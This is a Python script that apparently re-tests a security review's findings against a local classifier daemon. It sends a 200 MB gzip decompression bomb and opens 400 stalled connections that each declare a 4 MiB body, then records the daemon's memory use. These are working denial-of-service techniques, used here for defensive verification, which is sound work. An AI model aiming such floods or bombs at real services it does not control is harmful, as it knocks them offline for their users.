#!/usr/bin/env python3
"""recheck19.py DIR: the nineteenth pass's re-check of issue 27's HIGH findings on a plaintext
start13a.sh daemon: a gzip bomb (200 MB inflated) with and without a token on --http-listen and
--mcp-listen; 400 connections declaring Content-Length 4 MiB and sending one byte, with no token and
with carol's; prints each status and the daemon's RSS/HWM before and after."""
import os, sys, socket, gzip, io, time, json
d = sys.argv[1]
env = dict(l.strip().split('=', 1) for l in open(os.path.join(d, 'env')) if '=' in l)
tok = {l.split()[0]: l.split()[2] for l in open(os.path.join(d, 'tokens'))}
pid = env['PID']
def mem():
    s = {l.split(':')[0]: int(l.split()[1]) // 1024 for l in open(f'/proc/{pid}/status') if l.startswith(('VmRSS', 'VmHWM'))}
    return 'RSS %d MB HWM %d MB' % (s['VmRSS'], s['VmHWM'])
buf = io.BytesIO()
with gzip.GzipFile(fileobj=buf, mode='wb', compresslevel=9) as g:
    z = b'\0' * (1 << 20)
    for _ in range(200): g.write(z)
bomb = buf.getvalue()
def post(addr, path, body, hdr):
    h, p = addr.split(':'); s = socket.create_connection((h, int(p)), timeout=20)
    head = 'POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n%s\r\n' % (path, addr, len(body), ''.join('%s: %s\r\n' % kv for kv in hdr.items()))
    s.sendall(head.encode() + body); r = b''
    try:
        while b'\r\n\r\n' not in r:
            x = s.recv(4096)
            if not x: break
            r += x
    except Exception as e: r = repr(e).encode()
    s.close(); return r.split(b'\r\n')[0].decode(errors='replace')
print('start', mem())
for name, addr, path in (('http', env['HTTP'], '/classifier.v1.ClassifierService/Route'), ('mcp', env['MCP'], '/mcp')):
    for who in (None, 'carol', 'ops'):
        hdr = {'Content-Type': 'application/json', 'Content-Encoding': 'gzip'}
        if who: hdr['Authorization'] = 'Bearer ' + tok[who]
        print('gzip bomb (%d bytes) %s %s: %s; %s' % (len(bomb), name, who, post(addr, path, bomb, hdr), mem()))
for name, addr, path in (('http', env['HTTP'], '/v1/route'), ('http', env['HTTP'], '/classifier.v1.ClassifierService/Route'), ('mcp', env['MCP'], '/mcp')):
    for who in (None, 'carol'):
        ss = []
        for i in range(400):
            h, p = addr.split(':')
            try:
                s = socket.create_connection((h, int(p)), timeout=5)
                a = ('Authorization: Bearer %s\r\n' % tok[who]) if who else ''
                s.sendall(('POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n%sContent-Length: 4194304\r\n\r\n{' % (path, addr, a)).encode())
                ss.append(s)
            except Exception as e:
                pass
        time.sleep(3)
        print('400 x Content-Length 4 MiB, 1 byte, %s %s %s: %d connected; %s' % (name, path, who, len(ss), mem()))
        for s in ss: s.close()
        time.sleep(1)
print('end', mem())
